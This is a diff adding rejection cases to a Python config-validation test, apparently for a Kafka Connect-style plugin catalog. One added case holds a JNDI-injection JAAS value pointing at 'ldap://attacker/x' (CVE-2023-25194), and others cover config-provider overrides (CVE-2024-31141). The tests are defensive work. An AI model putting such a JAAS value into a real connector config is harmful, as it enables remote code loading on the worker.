@@ -136,6 +136,19 @@ def test_config_name_must_match(catalog: PluginCatalog) -> None:
         ("consumer.override.max.poll.records", "0", "is not a whole number of at least 1"),
         ("transaction.boundary", "row", "is not one of poll, interval, connector"),
         ("tasks.max.enforce", "sometimes", "'sometimes' is not true or false"),
+        ("config.providers", "file", "config providers are the worker's to set"),
+        ("config.providers.file.class", "x.FileConfigProvider", "(CVE-2024-31141)"),
+        (
+            "consumer.override.sasl.jaas.config",
+            "com.sun.security.auth.module.JndiLoginModule required "
+            'user.provider.url="ldap://attacker/x";',
+            "names a JNDI login module",
+        ),
+        (
+            "sasl.jaas.config",
+            "com.sun.security.auth.module.jndiloginmodule required;",
+            "CVE-2023-25194",
+        ),
         ("config.action.reload", "reload", "'reload' is not restart or none"),
     ],
 )
